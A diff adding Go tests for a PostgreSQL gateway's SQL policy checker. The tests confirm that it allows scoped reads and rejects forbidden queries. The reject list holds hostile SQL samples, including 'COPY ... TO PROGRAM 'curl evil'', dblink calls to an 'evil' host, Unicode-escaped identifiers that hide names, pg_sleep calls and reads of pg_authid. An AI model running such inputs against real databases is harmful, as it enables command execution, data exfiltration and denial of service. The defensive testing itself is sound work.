@@ -0,0 +1,141 @@
+package postgres
+
+import (
+	"context"
+	"errors"
+	"slices"
+	"testing"
+	"time"
+
+	"github.com/thegodeveloper/data-gateway/internal/domain"
+)
+
+func testPolicy(t *testing.T) *Policy {
+	t.Helper()
+	p, err := Policy{Schemas: []string{"public"}, Tables: []string{"orders", "customers"}}.compile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func TestAnalyzeSQL(t *testing.T) {
+	cases := []struct {
+		query     string
+		kind      string
+		writes    []string
+		tables    []table
+		functions []string
+	}{
+		{query: "SELECT * FROM orders", kind: "select", tables: []table{{name: "orders"}}},
+		{query: "VALUES (1)", kind: "select"},
+		{query: "TABLE public.orders", kind: "select", tables: []table{{schema: "public", name: "orders"}}},
+		{query: "SELECT * INTO copy FROM orders", kind: "create", tables: []table{{name: "copy"}, {name: "orders"}}},
+		{query: "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", kind: "select", writes: []string{"delete"}, tables: []table{{name: "orders"}}},
+		{query: "EXPLAIN ANALYZE UPDATE orders SET total = 0", kind: "explain", writes: []string{"update"}, tables: []table{{name: "orders"}}},
+		{query: "EXPLAIN SELECT 1", kind: "explain"},
+		{query: "SHOW search_path", kind: "show"},
+		{query: "DROP TABLE orders", kind: "drop"},
+		{query: "/* x */ (SELECT 1)", kind: "select"},
+		{query: "SET statement_timeout = 0", kind: "set"},
+		{query: `SELECT "Orders".id FROM "Orders"`, kind: "select", tables: []table{{name: "Orders"}}},
+		{query: "SELECT pg_catalog.now(), extract(year FROM created_at) FROM orders", kind: "select", tables: []table{{name: "orders"}}, functions: []string{"now", "extract"}},
+		// A CTE is only in scope after its definition and inside its
+		// statement, so the other "secrets" are real tables.
+		{query: "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", kind: "select", tables: []table{{name: "secrets"}}},
+		{query: "SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s", kind: "select", tables: []table{{name: "secrets"}}},
+		{query: "WITH RECURSIVE t AS (SELECT 1 UNION ALL SELECT * FROM t) SELECT * FROM t", kind: "select"},
+	}
+	for _, c := range cases {
+		got, err := analyzeSQL(c.query)
+		if err != nil || len(got) != 1 {
+			t.Errorf("analyzeSQL(%q) = %v, %v", c.query, got, err)
+			continue
+		}
+		a := got[0]
+		if a.kind != c.kind || !slices.Equal(a.writes, c.writes) || !slices.Equal(a.tables, c.tables) || !slices.Equal(a.functions, c.functions) {
+			t.Errorf("analyzeSQL(%q) = kind %q writes %v tables %v functions %v\nwant kind %q writes %v tables %v functions %v",
+				c.query, a.kind, a.writes, a.tables, a.functions, c.kind, c.writes, c.tables, c.functions)
+		}
+	}
+}
+
+func TestPolicyAllows(t *testing.T) {
+	p := testPolicy(t)
+	for _, query := range []string{
+		"SELECT * FROM orders",
+		"SELECT * FROM public.orders o JOIN customers c ON c.id = o.customer_id",
+		"SELECT * FROM (orders CROSS JOIN customers)",
+		"SELECT * FROM ((orders o JOIN customers c ON true) JOIN orders o2 ON true)",
+		"SELECT * FROM (SELECT id FROM orders) s, (VALUES (1)) v(n)",
+		"SELECT extract(year FROM created_at), U&'d\\0061ta' FROM orders WHERE id = $1",
+		"WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
+	} {
+		if err := p.check(query); err != nil {
+			t.Errorf("check(%q) = %v", query, err)
+		}
+	}
+}
+
+func TestPolicyRejects(t *testing.T) {
+	p := testPolicy(t)
+	for _, query := range []string{
+		"SELECT * FROM secrets",
+		"SELECT * FROM (secrets CROSS JOIN orders)",
+		"SELECT * FROM orders, (secrets s JOIN orders o ON true)",
+		"SELECT * FROM orders JOIN (secrets NATURAL JOIN orders o2) ON true",
+		"SELECT * FROM ((orders JOIN secrets ON true) JOIN customers ON true)",
+		"SELECT * FROM (private.orders JOIN customers ON true)",
+		"SELECT * FROM orders JOIN (pg_catalog.pg_authid a JOIN orders o ON true) ON true",
+		"SELECT * FROM ONLY (secrets)",
+		"SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)",
+		"SELECT * FROM orders, LATERAL (SELECT * FROM secrets) s",
+		"SELECT pg_sleep(5)",
+		"SELECT pg_catalog.pg_sleep(5)",
+		`SELECT U&"pg\005fsleep"(5)`,
+		`SELECT U&"!0070g_sleep" UESCAPE '!' (5)`,
+		`SELECT u&"dblink"('host=evil', 'SELECT 1')`,
+		`SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)`,
+		`SELECT * FROM U&"s\0065crets"`,
+		"SELECT * FROM orders; SELECT * FROM orders",
+		"DELETE FROM orders",
+		"WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
+		"SELECT * INTO stolen FROM orders",
+		"COPY orders TO PROGRAM 'curl evil'",
+		"DO $$ BEGIN PERFORM pg_sleep(5); END $$",
+	} {
+		if err := p.check(query); !errors.Is(err, domain.ErrForbidden) {
+			t.Errorf("check(%q) = %v, want ErrForbidden", query, err)
+		}
+	}
+}
+
+func TestPolicyRejectsInvalidSQL(t *testing.T) {
+	p := testPolicy(t)
+	for _, query := range []string{"SELEC 1", "SELECT * FROM", "", "-- only a comment"} {
+		if err := p.check(query); !errors.Is(err, domain.ErrInvalidRequest) {
+			t.Errorf("check(%q) = %v, want ErrInvalidRequest", query, err)
+		}
+	}
+}
+
+func TestCallerPoliciesInheritDisabled(t *testing.T) {
+	yes, no := true, false
+	p, err := newPolicies(RawSQL{
+		Policy: Policy{Disabled: &yes},
+		Callers: map[string]Policy{
+			"reporting": {StatementTimeout: time.Minute},
+			"admin":     {Disabled: &no},
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for caller, want := range map[string]bool{"": true, "reporting": true, "admin": false} {
+		ctx := domain.WithCaller(context.Background(), caller)
+		err := p.forCaller(ctx).check("SELECT 1")
+		if disabled := errors.Is(err, domain.ErrForbidden); disabled != want {
+			t.Errorf("caller %q: check = %v, want disabled %v", caller, err, want)
+		}
+	}
+}